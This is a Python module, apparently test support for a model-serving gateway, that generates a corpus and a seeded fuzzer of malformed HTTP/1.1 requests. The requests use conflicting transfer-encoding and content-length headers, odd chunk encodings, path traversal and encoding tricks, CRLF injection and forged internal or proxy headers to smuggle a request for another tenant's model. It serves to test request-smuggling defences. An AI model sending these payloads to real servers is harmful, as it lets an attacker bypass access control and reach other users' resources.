"""What HTTP/1.1 has been broken with, as bytes: known ways to smuggle a request in, and a generator of new ones.

Each is sent by somebody who may use the model `MINE`. Many hold a whole request for `VICTIM`, which they may not use.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from typing import Final

from overbook.gateway.snapshot.names import INTERNAL_HEADERS, MISSED_HEADER

# `COLD` is for the same people, and takes the way by which models are brought into memory.
MINE, COLD, VICTIM = "mine", "cold", "victim"
TOKEN: Final = b"authorization: Bearer ob_mine\r\n"
_PATH: Final = b"/v2/models/mine/infer"
_OTHER: Final = b"/v2/models/victim/infer"
# A request that nobody has looked at, should it arrive.
SMUGGLED: Final = (
    b"POST " + _OTHER + b" HTTP/1.1\r\nhost: x\r\n" + TOKEN + b"content-length: 2\r\n\r\n{}"
)
# Seen from the end of a chunked body.
_BEHIND: Final = b"0\r\n\r\n" + SMUGGLED


def _head(
    *lines: bytes, line: bytes = b"POST " + _PATH + b" HTTP/1.1", host: bytes = b"host: x\r\n"
) -> bytes:
    return line + b"\r\n" + host + TOKEN + b"".join(each + b"\r\n" for each in lines) + b"\r\n"


def _sized(*lines: bytes, body: bytes = _BEHIND, **more: bytes) -> bytes:
    return _head(b"content-length: %d" % len(body), *lines, **more) + body


def _chunked(body: bytes, *lines: bytes, **more: bytes) -> bytes:
    return _head(b"transfer-encoding: chunked", *lines, **more) + body


def _at(
    target: bytes, *lines: bytes, method: bytes = b"POST", version: bytes = b"HTTP/1.1"
) -> bytes:
    return _sized(*lines, body=b"{}", line=method + b" " + target + b" " + version)


# Ways to write that a body is chunked which some take for it and others do not. Each stands beside a content-length.
_CHUNKED: Final = (
    b"transfer-encoding: chunked",
    b"Transfer-Encoding: CHUNKED",
    b"transfer-encoding: xchunked",
    b"transfer-encoding : chunked",
    b"transfer-encoding:\tchunked",
    b"transfer-encoding:\x0bchunked",
    b"transfer-encoding: chunked\x00",
    b"transfer-encoding\x00: chunked",
    b"transfer-encoding: chunked\r\ntransfer-encoding: x",
    b"transfer-encoding: x\r\ntransfer-encoding: chunked",
    b"transfer-encoding: identity",
    b"transfer-encoding: identity, chunked",
    b"transfer-encoding: chunked, identity",
    b"transfer-encoding: chunked, chunked",
    b"transfer-encoding: gzip, chunked",
    b'transfer-encoding: "chunked"',
    b"transfer-encoding: chunked;q=1",
    b"transfer-encoding:\r\n chunked",
    b"transfer-encoding: chun\r\n ked",
    b"transfer-encoding:",
    b" transfer-encoding: chunked",
    b"x: y\r\n transfer-encoding: chunked",
    b"x: y\ntransfer-encoding: chunked",
    b"x: y\rtransfer-encoding: chunked",
    b"x: y\n\ntransfer-encoding: chunked",
    b"transfer_encoding: chunked",
    b"transfer encoding: chunked",
    b"\xa0transfer-encoding: chunked",
    b"transfer-encoding\xa0: chunked",
    b"transfer-encoding: \xc2\xa0chunked",
    b"[transfer-encoding]: chunked",
    b"te: chunked",
    b"content-encoding: chunked",
    b"connection: transfer-encoding\r\ntransfer-encoding: chunked",
)
# Lengths that are none, or two. In front of `SMUGGLED`.
_LENGTHS: Final = (
    b"content-length: 0\r\ncontent-length: %d",
    b"content-length: %d\r\ncontent-length: 0",
    b"content-length: %d\r\ncontent-length: %d",
    b"content-length: 0, %d",
    b"content-length: +%d",
    b"content-length: -%d",
    b"content-length: %d ",
    b"content-length: 0%d",
    b"content-length: 0x%x",
    b"content-length: %d.0",
    b"content-length: %de0",
    b"content-length: %d;",
    b"content-length : %d",
    b"content-length\t: %d",
    b"content-length:\r\n %d",
    b"content-length: %d\r\n 0",
    b"content-length: \x00%d",
    b"content-length: \xb2",
    b"content-length:",
    b"content-length: 18446744073709551616",
    b"content-length: 99999999999999999999999999",
    b"content_length: %d",
    b" content-length: %d",
    b"x: y\ncontent-length: %d",
    b"x: y\rcontent-length: %d",
    b"connection: content-length\r\ncontent-length: %d",
    b"connection: keep-alive, content-length, close\r\ncontent-length: %d",
)
# Bodies in chunks that not everybody reads alike.
_CHUNKS: Final = (
    b"2\r\n{}\r\n" + _BEHIND,
    b"2;x=y\r\n{}\r\n" + _BEHIND,
    b"2;\n{}\r\n" + _BEHIND,
    b"2;\r{}\r\n" + _BEHIND,
    b'2;x="\r\n0\r\n\r\n"\r\n{}\r\n' + _BEHIND,
    b"2 \r\n{}\r\n" + _BEHIND,
    b" 2\r\n{}\r\n" + _BEHIND,
    b"+2\r\n{}\r\n" + _BEHIND,
    b"-2\r\n{}\r\n" + _BEHIND,
    b"0x2\r\n{}\r\n" + _BEHIND,
    b"002\r\n{}\r\n" + _BEHIND,
    b"2\n{}\n0\n\n" + SMUGGLED,
    b"2\r{}\r0\r\r" + SMUGGLED,
    b"2\r\n{}0\r\n\r\n" + SMUGGLED,
    b"2\r\n{}xx" + _BEHIND,
    b"3\r\n{}\r\n" + _BEHIND,
    b"1\r\n{}\r\n" + _BEHIND,
    b"g\r\n{}\r\n" + _BEHIND,
    b"\r\n" + _BEHIND,
    b"ffffffffffffffff\r\n{}\r\n" + _BEHIND,
    b"10000000000000002\r\n{}\r\n" + _BEHIND,
    b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n",
    b"0\r\ncontent-length: 5\r\n\r\n" + SMUGGLED,
    b"0\r\nx-overbook-model: victim\r\n\r\n" + SMUGGLED,
    b"0\r\n" + SMUGGLED,
    b"0\r\n\n" + SMUGGLED,
    b"0\r\n\r" + SMUGGLED,
    b"0\n\n" + SMUGGLED,
    b"0" * 5_000 + b"\r\n\r\n" + SMUGGLED,
    b"2;" + b"x" * 200_000 + b"\r\n{}\r\n" + _BEHIND,
)
# Targets that somebody may tidy up into another.
_TARGETS: Final = (
    b"http://x/v2/models/mine/infer",
    b"http://x/v2/models/victim/infer",
    b"http://victim/v2/models/mine/infer",
    b"HTTP://x" + _OTHER,
    b"x://" + _OTHER,
    b"//x" + _OTHER,
    b"/" + _OTHER,
    b"/." + _OTHER,
    b"/x/.." + _OTHER,
    b"/x/%2e%2e" + _OTHER,
    b"/x/..;" + _OTHER,
    b"/x/..%2f" + _OTHER[1:],
    b"/%2e" + _OTHER,
    b"/%2f" + _OTHER[1:],
    b"\\v2\\models\\victim\\infer",
    b"/%5cv2%5cmodels%5cvictim%5cinfer",
    b"/%76%32/models/victim/infer",
    b"/%2576%2532/models/victim/infer",
    b"/v2/%6dodels/victim/infer",
    b"/v2//models/victim/infer",
    b"/v2/models//victim/infer",
    b"/v2/models/vict%69m/infer",
    b"/v2/models/%76%69%63%74%69%6d/infer",
    b"/v2/models/mine/../victim/infer",
    b"/v2/models/mine/infer/../../victim/infer",
    b"/v2/models/mine/infer/%2e%2e/%2e%2e/victim/infer",
    b"/v2/models/mine%2f..%2fvictim/infer",
    b"/v2/models/mine/..%2fvictim/infer",
    b"/v2/models/mine/..%5cvictim/infer",
    b"/v2/models/mine\\..\\victim/infer",
    b"/v2/models/mine/versions/../../victim/infer",
    b"/v2/models/mine;/../victim/infer",
    b"/v2/models/mine/infer?/../../../models/victim/infer",
    b"/v2/models/mine/infer#/../../../models/victim/infer",
    b"/v2/models/mine?/v2/models/victim/infer",
    b"/v2/models/mine#/v2/models/victim/infer",
    b"/v2/models/mine%3f/infer",
    b"/v2/models/mine%00/infer",
    b"/v2/models/mine%0d%0ax:%20y/infer",
    b"/v2/models/mine%0d%0a%0d%0aPOST%20/v2/models/victim/infer%20HTTP/1.1/infer",
    b"/v2/models/mine/infer\x00" + _OTHER,
    b"/v2/models/mine/infer\t" + _OTHER,
    b"/v2/models/mine/infer " + _OTHER,
    b"/v2/models/mine/infer\r" + _OTHER,
    b"/v2/models/mine/infer\x85",
    b"/v2/models/\xc3\xa9/infer",
    b"/v2/models/mine/infer%",
    b"/v2/models/mine/infer%zz",
    b"/v2/models/mine/\xd7",
    b"/v2/models/mine/ready?\xd7",
    b"/v2/models/\xd7/ready",
    b"/v2/\xd7",
    b"/v2/%d7",
    b"*",
    b"victim:80",
    b"",
    b"?",
    b"#",
    b"/" + b"a/" * 29_000,
)
_METHODS: Final = (
    *(
        b"post",
        b"GET",
        b"HEAD",
        b"PUT",
        b"DELETE",
        b"TRACE",
        b"CONNECT",
        b"OPTIONS",
        b"PATCH",
        b"PRI",
    ),
    *(
        b"POST\x00",
        b"POST\t",
        b" POST",
        b"P\rOST",
        b"P\nOST",
        b"X" * 70_000,
        b"\x80",
        b"PO ST",
        b"",
    ),
)
_VERSIONS: Final = (
    *(
        b"HTTP/1.0",
        b"HTTP/1.2",
        b"HTTP/2.0",
        b"HTTP/0.9",
        b"HTTP/11",
        b"HTTP/1.1 ",
        b"HTTP/1.10",
        b"http/1.1",
    ),
    *(b"HTTP/1.1\t", b"HTTP/1.1\x00", b"HTTP/1.1 x", b"HTTP /1.1", b"HTTP/1.1\r", b"ICY/1.1", b""),
)
# Each header that is ours alone, with what each of them may say.
FORGED: Final = tuple(
    (name.encode(), said)
    for name in (*INTERNAL_HEADERS, MISSED_HEADER)
    for said in (b"victim", b"rest/victim/0", b"1")
)
# Headers that name somebody else, or steer what is in front of a server.
_HEADERS: Final = (
    b"seldon-model: victim",
    b"seldon-model: mine\r\nseldon-model: victim",
    *(b"%s: %s" % forged for forged in FORGED),
    b"X_Overbook_Model: victim",
    b"x-envoy-original-path: " + _OTHER,
    b"x-envoy-internal: true",
    b"x-envoy-retry-on: 5xx\r\nx-envoy-max-retries: 100",
    b"x-envoy-upstream-rq-timeout-ms: 1",
    b"x-original-url: " + _OTHER,
    b"x-rewrite-url: " + _OTHER,
    b"x-http-method-override: DELETE",
    b"x-forwarded-host: victim\r\nforwarded: host=victim",
    b"host: victim",
    b"connection: authorization",
    b"connection: host",
    b"connection: x-overbook-model, seldon-model",
    b"connection: close\r\nconnection: keep-alive",
    b"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"sec-websocket-version: 13",
    b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__",
    b"connection: upgrade\r\nupgrade: h2c",
    b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__",
    b"connection: upgrade\r\nupgrade: TLS/1.0",
    b"expect: 100-continue",
    b"expect: 100-continue, x",
    b"expect: x",
    b"authorization: Bearer ob_none",
    b"authorization: Bearer ob_wine",
    b"content-type: application/grpc",
    b"content-type: multipart/form-data; boundary=x",
    b"content-encoding: gzip",
    b"content-encoding: gzip, identity",
    b": y",
    b"x",
    b"x\x00: y",
    b"x: y\x00",
    b"x: y\x7f",
    b"x y: z",
    b"x(y): z",
    b"\x80: y",
    b"x: " + b"y" * 100_000,
    b"x: y\r\n" * 150 + b"x: y",
    b":path: " + _OTHER,
    b":authority: victim",
    b":method: DELETE",
)
_HOSTS: Final = (
    b"",
    b"host:\r\n",
    b"host: x\r\nhost: victim\r\n",
    b"host: x:99999\r\n",
    b"host: victim@x\r\n",
    b"host: x" + _OTHER + b"\r\n",
    b"host : x\r\n",
    b"host: x y\r\n",
    b"host: @\r\n",
    b"host: \xd7\r\n",
    b"\thost: x\r\n",
    b"host: x, victim\r\n",
    b"host: x\x00\r\n",
)


def for_cold(attack: bytes) -> bytes:
    """The same for a model that is not in memory. In HTTP/2, too: the names are of one length."""
    for before in (b"models/", b"seldon-model: ", b"\x04"):
        attack = attack.replace(before + MINE.encode(), before + COLD.encode())
    return attack


def corpus() -> Mapping[str, bytes]:
    """By what is odd about it."""
    bare = _sized(body=b"{}")
    found = {f"{each!r} beside a length": _sized(each) for each in _CHUNKED}
    found |= {f"{each!r} behind it": _chunked(_BEHIND, each) for each in _CHUNKED}
    for each in _LENGTHS:
        length = len(SMUGGLED)
        line = each % ((length,) * each.count(b"%"))
        found[f"{line!r}"] = _head(line) + SMUGGLED
        found[f"{line!r}, chunked"] = _chunked(b"2\r\n{}\r\n" + _BEHIND, line)
    found |= {f"chunks {each[:60]!r}": _chunked(each) for each in _CHUNKS}
    found |= {f"target {each[:80]!r}": _at(each) for each in _TARGETS}
    own = b"seldon-model: mine"
    found |= {f"target {each[:80]!r} of a model's own": _at(each, own) for each in _TARGETS}
    found |= {f"method {each[:20]!r}": _at(_PATH, method=each) + SMUGGLED for each in _METHODS}
    found |= {f"version {each!r}": _at(_PATH, version=each) + SMUGGLED for each in _VERSIONS}
    found |= {
        f"version {each!r}, chunked": _chunked(_BEHIND, line=b"POST " + _PATH + b" " + each)
        for each in _VERSIONS
    }
    found |= {f"{each[:60]!r}": _sized(each, body=SMUGGLED) for each in _HEADERS}
    found |= {f"{each[:60]!r} of a model's own": _at(b"/own/path", own, each) for each in _HEADERS}
    found |= {f"{each!r}": _sized(host=each) for each in _HOSTS}
    tokenless = b"POST " + _PATH + b" HTTP/1.1\r\n"
    found |= {f"{each!r} and no token": tokenless + each + b"\r\n" for each in _HOSTS}
    over_grpc = b"content-type: application/grpc"
    found |= {f"{each!r} of a call": _sized(over_grpc, host=each) for each in _HOSTS}
    found["absolute, with another host"] = _at(b"http://victim" + _PATH)
    found["lines end with LF"] = _sized(body=SMUGGLED).replace(b"\r\n", b"\n")
    found["lines end with CR"] = _sized(body=SMUGGLED).replace(b"\r\n", b"\r")
    found["lines end with LF CR"] = _sized(body=SMUGGLED).replace(b"\r\n", b"\n\r")
    found["empty lines first"] = b"\r\n\n\r\n" + bare
    found["empty lines between"] = bare + b"\r\n\r\n" + bare
    found["no body said"] = _head() + SMUGGLED
    found["a body that is too short"] = _head(b"content-length: 500") + SMUGGLED
    found["a body that is too long"] = _head(b"content-length: 2") + b"{}" + SMUGGLED
    found["three at once"] = bare + SMUGGLED + bare
    found["HTTP/2 after a request"] = bare + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)
    found["half of HTTP/2"] = b"PRI * HTTP/2.0\r\n\r\n" + SMUGGLED
    found["HTTP/0.9"] = b"GET " + _OTHER + b"\r\n\r\n"
    found["TLS"] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(300)
    found["nothing but zeros"] = bytes(5_000)
    return found


_BYTES: Final = (
    *(
        b"\r",
        b"\n",
        b"\r\n",
        b"\0",
        b" ",
        b"\t",
        b":",
        b";",
        b",",
        b"0",
        b"5",
        b"-",
        b"+",
        b"%",
        b"/",
        b"\\",
    ),
    *(
        b"\x80",
        b"\xff",
        b"\x0b",
        b"\x7f",
        b"..",
        b"?",
        b"#",
        b"chunked",
        b"HTTP/1.1",
        b"\r\n ",
        b"\r\n\r\n",
    ),
)


def invented(seed: int) -> bytes:
    """One or several requests, of what the others are made of. The same for the same seed."""
    choose = random.Random(seed)
    return b"".join(_requests(choose))


def _requests(choose: random.Random) -> Iterator[bytes]:
    for _ in range(choose.choice((1, 1, 2, 3))):
        target = choose.choice((_PATH, _PATH, _PATH, b"/own/path", *_TARGETS[:-1]))
        line = b" ".join((choose.choice((b"POST", b"POST", *_METHODS)), target, b"HTTP/1.1"))
        lines = [choose.choice(_HEADERS) for _ in range(choose.choice((0, 0, 1, 2)))]
        body = choose.choice((b"{}", SMUGGLED, _BEHIND, *_CHUNKS[:-2]))
        for _ in range(choose.choice((1, 1, 1, 2, 3))):
            kind = choose.randrange(4)
            if kind == 0:
                lines.append(choose.choice(_CHUNKED))
            elif kind == 1:
                length = choose.choice(_LENGTHS)
                lines.append(length % ((len(body),) * length.count(b"%")))
            else:
                lines.append(b"content-length: %d" % choose.choice((len(body), len(body), 0, 5)))
        choose.shuffle(lines)
        made = bytearray(_head(*lines, line=line) + body)
        for _ in range(choose.choice((0, 0, 0, 1, 1, 2, 5))):
            at = choose.randrange(len(made))
            made[at : at + choose.choice((0, 0, 1, 2))] = choose.choice(_BYTES)
        yield bytes(made)
